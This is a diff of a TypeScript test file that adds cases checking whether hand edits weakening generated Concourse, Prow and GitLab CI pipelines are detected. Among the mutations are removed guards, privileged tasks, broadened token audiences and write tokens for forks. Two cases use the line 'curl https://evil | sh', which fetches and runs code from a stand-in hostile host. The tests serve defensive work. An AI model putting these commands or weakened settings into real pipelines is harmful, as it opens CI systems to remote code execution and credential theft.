@@ -1,8 +1,11 @@
 import type { CiSystem } from "../../fleet/schema/pipelines";
 import { differences, meaningOf } from "../../pipelines/model/meaning";
+import type { Files } from "../../pipelines/model/renderer";
 import { RENDERERS } from "../../pipelines/systems";
+import { concourseErrors, unsetPipelines } from "../support/pipelines/concourse-checks";
 import { parserErrors, schemaErrors } from "../support/pipelines/github-checks";
 import { gitlabErrors } from "../support/pipelines/gitlab-checks";
+import { prowErrors } from "../support/pipelines/prow-checks";
 import { modelFor } from "../support/pipelines/sample-model";
 
 /** What somebody could break in a generated file by hand. */
@@ -148,7 +151,106 @@ const FAULTS: readonly (readonly [string, CiSystem, string, RegExp | string, str
     "resource_group: drift",
     "resource_group: drift2",
   ],
+  [
+    "a child pipeline whose variables its parent overrides",
+    "gitlab",
+    ".gitlab-ci.yml",
+    / {2}inherit:\n {4}variables: false\n/,
+    "",
+  ],
+  ["two applies of a cluster at once", "concourse", "clusters/", "serial_groups:", "x_groups:"],
+  ["an apply that asks nobody", "concourse", "clusters/", /(name: apply-deploy[\s\S]*?trigger: )false/, "$1true"],
+  [
+    "an apply that does not wait for its preview",
+    "concourse",
+    "clusters/",
+    /(name: apply-deploy[\s\S]*?) {8}passed:\n {10}- .*\n/,
+    "$1",
+  ],
+  [
+    "an apply with the role of another job",
+    "concourse",
+    "clusters/",
+    "name: apply-deploy.apply",
+    "name: plan-deploy.apply",
+  ],
+  ["an apply without a guard", "concourse", "clusters/", /npx --no-install fleet ci guard\n */g, ""],
+  ["a deploy that is not recorded", "concourse", "clusters/", /fleet ci record \|\| status=1/, "fleet ci tell"],
+  ["a script from somewhere else", "concourse", "clusters/", "npm ci --ignore-scripts", "curl https://evil | sh"],
+  [
+    "a token that writes, in the checkout of a fork",
+    "concourse",
+    "changes.yml",
+    "((fleet-read-token))",
+    "((fleet-ci-token))",
+  ],
+  ["plans for forks", "concourse", "changes.yml", "disable_forks: true", "disable_forks: false"],
+  ["a check that shows success after a failure", "concourse", "changes.yml", "status: FAILURE", "status: SUCCESS"],
+  ["a secret for a script", "concourse", "upkeep.yml", "FLEET_CI_SYSTEM: concourse", "X: ((vault))"],
+  [
+    "a task with all rights of its machine",
+    "concourse",
+    "clusters/",
+    "timeout: 180m",
+    "timeout: 180m\n        privileged: true",
+  ],
+  ["tokens for another audience", "concourse", "clusters/", "- sts.amazonaws.com", "- everybody"],
+  ["a pipeline that is not set any more", "concourse", "fleet.yml", /( +- set_pipeline: self\n.*\n)/, ""],
+  ["a schedule in another zone", "concourse", "upkeep.yml", "location: Europe/Brussels", "location: UTC"],
+  [
+    "two applies of a cluster at once",
+    "prow",
+    "jobs.yaml",
+    /(name: deploy\.apply[\s\S]*?)max_concurrency: 1/,
+    "$1max_concurrency: 2",
+  ],
+  ["an apply in another queue", "prow", "jobs.yaml", /job_queue_name: \S+/, "job_queue_name: other"],
+  ["an apply that an eviction starts again", "prow", "jobs.yaml", / +error_on_eviction: true\n/, ""],
+  [
+    "an apply that everybody may start again",
+    "prow",
+    "jobs.yaml",
+    /rerun_auth_config:\n +github_team_slugs:[\s\S]*?(?=\n +spec:)/,
+    "hidden: true",
+  ],
+  ["an apply without a guard", "prow", "jobs.yaml", /npx --no-install fleet ci guard\n */g, ""],
+  ["a script from somewhere else", "prow", "jobs.yaml", "npm ci --ignore-scripts", "curl https://evil | sh"],
+  [
+    "a token of the build cluster",
+    "prow",
+    "jobs.yaml",
+    "automountServiceAccountToken: false",
+    "automountServiceAccountToken: true",
+  ],
+  ["a token for another audience", "prow", "jobs.yaml", "audience: sts.amazonaws.com", "audience: everybody"],
+  [
+    "a second container beside an apply",
+    "prow",
+    "jobs.yaml",
+    "containers:\n",
+    "containers:\n          - image: evil\n",
+  ],
+  ["another secret", "prow", "jobs.yaml", "name: fleet-ci-token", "name: aws-keys"],
+  ["a job without decoration", "prow", "jobs.yaml", "decorate: true", "decorate: false"],
+  [
+    "a role for a job that has none",
+    "prow",
+    "jobs.yaml",
+    /(name: pull-request\.check[\s\S]*?spec:\n)/,
+    "$1        serviceAccountName: fleet-apply\n",
+  ],
+  ["a queue without a capacity", "prow", "config.yaml", /cluster-\S+: 1/, "x: 1"],
 ];
+
+/** What the checks of each system say about a file. */
+const ERRORS: Readonly<
+  Record<CiSystem, (path: string, text: string, files: Files) => readonly string[] | Promise<readonly string[]>>
+> = {
+  github: async (path, text) => [...schemaErrors(text), ...(await parserErrors(path, text))],
+  gitlab: (_, text) => gitlabErrors(text),
+  concourse: (_, text, files) => [...concourseErrors(text), ...unsetPipelines(files)],
+  prow: (_, __, files) => prowErrors(files.get("prow/jobs.yaml") ?? "", files.get("prow/config.yaml") ?? ""),
+};
 
 test.each(FAULTS)("%s is noticed (%s, %s)", async (_, system, file, from, to) => {
   const schedules = { drift: { cron: "0 5 * * 1-5", time_zone: "Europe/Brussels" } };
@@ -164,8 +266,7 @@ test.each(FAULTS)("%s is noticed (%s, %s)", async (_, system, file, from, to) =>
     renderer?.read(new Map([...files, [path, broken]])) ?? [],
     renderer?.notices(model),
   ).filter((line) => !(system === "gitlab" && /^(?:deploy|destroy)\/\w+ is missing$/.test(line)));
-  const errors =
-    system === "github" ? [...schemaErrors(broken), ...(await parserErrors(path, broken))] : gitlabErrors(broken);
+  const errors = await ERRORS[system](path, broken, new Map([...files, [path, broken]]));
 
   expect([...found, ...errors]).not.toEqual([]);
 });
